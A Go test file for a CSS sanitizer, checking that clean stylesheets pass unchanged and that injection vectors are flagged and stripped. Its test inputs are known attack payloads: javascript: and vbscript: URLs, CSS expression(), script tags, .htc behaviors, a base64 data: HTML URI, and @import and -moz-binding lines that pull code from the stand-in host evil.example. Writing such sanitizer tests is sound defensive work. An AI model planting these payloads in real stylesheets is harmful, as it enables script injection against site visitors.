package css

import (
	"strings"
	"testing"
)

func TestSanitizeCleanCSS(t *testing.T) {
	input := ".header { color: #fff; background: url(/banner.png); }"
	result := Sanitize(input)
	if !result.Safe {
		t.Fatalf("clean css flagged unsafe, blocked=%v", result.Blocked)
	}
	if result.Sanitized != input {
		t.Fatalf("clean css was modified: %q", result.Sanitized)
	}
}

func TestSanitizeEmptyInput(t *testing.T) {
	for _, input := range []string{"", "   ", "\n\t"} {
		result := Sanitize(input)
		if !result.Safe {
			t.Fatalf("empty input %q flagged unsafe", input)
		}
		if len(result.Blocked) != 0 {
			t.Fatalf("empty input recorded blocks: %v", result.Blocked)
		}
	}
}

func TestSanitizeJavascriptURL(t *testing.T) {
	result := Sanitize("a{background:url(javascript:alert(1))}")
	if result.Safe {
		t.Fatal("javascript: URL not flagged")
	}
	found := false
	for _, name := range result.Blocked {
		if name == "javascript: URLs" {
			found = true
		}
	}
	if !found {
		t.Fatalf("blocked = %v, want javascript: URLs", result.Blocked)
	}
	if strings.Contains(strings.ToLower(result.Sanitized), "javascript:") {
		t.Fatalf("javascript: survived sanitization: %q", result.Sanitized)
	}
}

func TestSanitizeBlocksEachVector(t *testing.T) {
	cases := map[string]string{
		"vbscript: URLs":            "a{background:url(vbscript:msgbox(1))}",
		"CSS expressions":           "div{width:expression(alert(1))}",
		"@import directives":        "@import url(http://evil.example/x.css);",
		"script tags":               "/* <script>alert(1)</script> */",
		"vendor binding extensions": "div{-moz-binding:url(http://evil.example/x.xml#p)}",
		"behavior bindings":         "div{behavior:url(x.htc)}",
		"data: HTML URIs":           "a{background:url(data:text/html;base64,PHNjcmlwdD4=)}",
	}
	for want, input := range cases {
		result := Sanitize(input)
		if result.Safe {
			t.Errorf("%s: input %q not flagged", want, input)
			continue
		}
		found := false
		for _, name := range result.Blocked {
			if name == want {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: blocked = %v", want, result.Blocked)
		}
	}
}

func TestSanitizeVendorBindingNotDoubleReported(t *testing.T) {
	result := Sanitize("div{-moz-binding:url(x)}")
	for _, name := range result.Blocked {
		if name == "XML bindings" {
			t.Fatalf("vendor binding also reported as generic binding: %v", result.Blocked)
		}
	}
}

func TestSanitizeIdempotent(t *testing.T) {
	inputs := []string{
		"a{background:url(javascript:alert(1))}",
		"@import url(x); div{behavior:url(y.htc); width:expression(1)}",
		".clean { color: red; }",
	}
	for _, input := range inputs {
		first := Sanitize(input)
		second := Sanitize(first.Sanitized)
		if second.Sanitized != first.Sanitized {
			t.Fatalf("not idempotent for %q: %q != %q", input, second.Sanitized, first.Sanitized)
		}
		if !second.Safe {
			t.Fatalf("second pass flagged sanitized output of %q: %v", input, second.Blocked)
		}
	}
}

func TestSanitizeMultipleVectorsReportedOnce(t *testing.T) {
	result := Sanitize("a{x:url(javascript:1)} b{y:url(javascript:2)}")
	count := 0
	for _, name := range result.Blocked {
		if name == "javascript: URLs" {
			count++
		}
	}
	if count != 1 {
		t.Fatalf("javascript: URLs reported %d times", count)
	}
	if strings.Contains(result.Sanitized, "javascript:") {
		t.Fatalf("second occurrence survived: %q", result.Sanitized)
	}
}
